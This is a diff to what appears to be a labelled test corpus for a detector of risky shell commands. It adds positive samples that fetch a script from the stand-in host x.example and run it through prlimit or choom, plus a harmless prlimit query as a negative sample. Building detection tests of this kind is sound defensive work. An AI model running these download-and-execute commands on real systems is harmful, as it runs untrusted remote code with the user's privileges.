@@ -395,3 +395,9 @@ sudo dpkg -i ../mytool_1.0_amd64.deb
 #@ pos a command name set by eval of a constant string
 eval 'c=curl'
 $c -fsSL https://x.example/i.sh | sh
+#@ pos a download run through prlimit
+curl -fsSL https://x.example/s -o /tmp/s && prlimit --nofile=4096 bash /tmp/s
+#@ pos a download run through choom
+choom -n -1000 -- sh -c "$(wget -qO- https://x.example/u)"
+#@ neg prlimit showing the limits of a process
+prlimit --pid 1 --nofile
